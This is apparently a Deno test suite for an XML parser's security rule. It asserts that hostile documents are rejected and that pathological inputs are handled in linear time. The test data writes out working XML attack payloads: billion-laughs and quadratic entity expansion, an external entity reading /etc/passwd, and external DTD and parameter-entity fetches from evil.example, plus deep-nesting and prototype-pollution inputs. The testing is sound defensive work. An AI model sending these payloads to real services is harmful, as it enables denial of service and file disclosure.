/** SECURITY.md row 21: XML that is meant to exhaust, expand, read files or crash the parser. */
import assert from "node:assert/strict";
import { PayloadBindingError } from "../../src/message/errors.ts";
import { parseXml } from "../../src/message/xml_parse.ts";

const repeat = (text: string, count: number) => text.repeat(count);

const BILLION_LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">${
  Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${repeat(`&l${i};`, 10)}">`).join("")
}]><lolz>&l9;</lolz>`;

const REFUSED: readonly (readonly [what: string, text: string])[] = [
  ["billion laughs", BILLION_LAUGHS],
  [
    "quadratic blowup",
    `<!DOCTYPE a [<!ENTITY x "${repeat("x", 50_000)}">]><a>${repeat("&x;", 50_000)}</a>`,
  ],
  ["an external entity", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ["an external DTD", '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'],
  ["a parameter entity", '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]><a/>'],
  ["a DOCTYPE after a comment", "<!-- x --><!DOCTYPE a><a/>"],
  ["a DOCTYPE in the content", "<a><!DOCTYPE b></a>"],
  ["an entity that was not declared", "<a>&x;</a>"],
  ["100,000 levels", repeat("<a>", 100_000) + repeat("</a>", 100_000)],
  ["100,000 levels, never closed", repeat("<a>", 100_000)],
  ["65 levels", repeat("<a>", 65) + repeat("</a>", 65)],
  ["100,001 elements", `<a>${repeat("<b/>", 100_000)}</a>`],
  ["100,000 attributes", `<a ${Array.from({ length: 100_000 }, (_, i) => `b${i}=''`).join(" ")}/>`],
  ["five million characters", `<a>${repeat("x", 5_000_000)}</a>`],
  ["a reference beyond Unicode", "<a>&#x110000;</a>"],
  ["a reference beyond every number", `<a>&#${repeat("9", 1_000)};</a>`],
  ["a reference beyond every number in an attribute", `<a b='&#x${repeat("f", 1_000)};'/>`],
  ["a reference to NUL", "<a>&#0;</a>"],
  ["a reference to a surrogate", "<a>&#xDC00;</a>"],
  ["an element __proto__", "<__proto__><polluted>1</polluted></__proto__>"],
];

for (const [what, text] of REFUSED) {
  Deno.test(`security 21: XML attack: ${what} is refused`, async () => {
    await assert.rejects(parseXml(text), PayloadBindingError);
    assert.equal("polluted" in {}, false);
  });
}

Deno.test("security 21: XML attack: references are replaced once", async () => {
  assert.equal((await parseXml("<a>&amp;lt;&#38;amp;</a>")).a, "&lt;&amp;");
});

/** Text in which a parser that scans again from each place takes minutes. */
const SLOW: readonly (readonly [what: string, text: (size: number) => string])[] = [
  ["spaces in a tag", (size) => `<a${repeat(" ", size)}></a>`],
  ["spaces in a closing tag", (size) => `<a></a${repeat(" ", size)}>`],
  ["equal signs", (size) => `<a ${repeat("=", size)}/>`],
  ["quotes", (size) => `<a ${repeat("'\"", size / 2)}/>`],
  ["open tags", (size) => repeat("<", size)],
  ["ampersands", (size) => `<a>${repeat("&", size)}</a>`],
  ["a reference without end", (size) => `<a>&#${repeat("1", size)}</a>`],
  ["references", (size) => `<a>${repeat("&amp;", size / 5)}</a>`],
  ["comments", (size) => `<a>${repeat("<!---->", size / 7)}</a>`],
  ["dashes", (size) => `<a><!--${repeat("-", size)}</a>`],
  ["CDATA sections", (size) => `<a>${repeat("<![CDATA[]]>", size / 12)}</a>`],
  ["brackets", (size) => `<a><![CDATA[${repeat("]", size)}</a>`],
  ["instructions", (size) => `<a>${repeat("<?a?>", size / 5)}</a>`],
  ["an open instruction", (size) => `<?${repeat("? ", size / 2)}`],
  ["a long name", (size) => `<${repeat("a", size)}/>`],
  ["a long value", (size) => `<a b='${repeat("x", size)}'/>`],
  ["empty elements", (size) => `<a>${repeat("<b/>", Math.min(size / 4, 90_000))}</a>`],
  ["text between elements", (size) => `<a>${repeat("x<b/>", Math.min(size / 5, 90_000))}</a>`],
];

const SIZE = 400_000;
/** One pass takes some 40 ms; a quadratic one over 400,000 characters would take minutes. */
const ALLOWED_MS = 4_000;

for (const [what, text] of SLOW) {
  Deno.test(`security 21: XML attack: ${what}, 400,000 characters, take no more than linear time`, async () => {
    const start = performance.now();
    await parseXml(text(SIZE)).catch((error) => assert.ok(error instanceof PayloadBindingError));
    const took = performance.now() - start;
    assert.ok(took < ALLOWED_MS, `took ${took.toFixed(0)} ms`);
  });
}
